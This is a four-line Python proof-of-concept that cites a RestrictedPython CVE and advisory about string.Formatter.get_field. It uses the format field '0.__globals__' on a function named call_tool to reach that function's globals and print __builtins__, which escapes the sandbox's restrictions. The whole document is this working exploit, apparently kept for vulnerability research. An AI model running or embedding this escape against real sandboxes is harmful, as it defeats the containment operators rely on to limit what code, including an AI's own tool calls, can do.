# Source: RestrictedPython CVE-2026-76825 / https://osv.dev/vulnerability/GHSA-hp3v-5vw7-fx9w (string.Formatter.get_field)
from string import Formatter
obj, _ = Formatter().get_field("0.__globals__", [call_tool], {})
print(obj["__builtins__"])
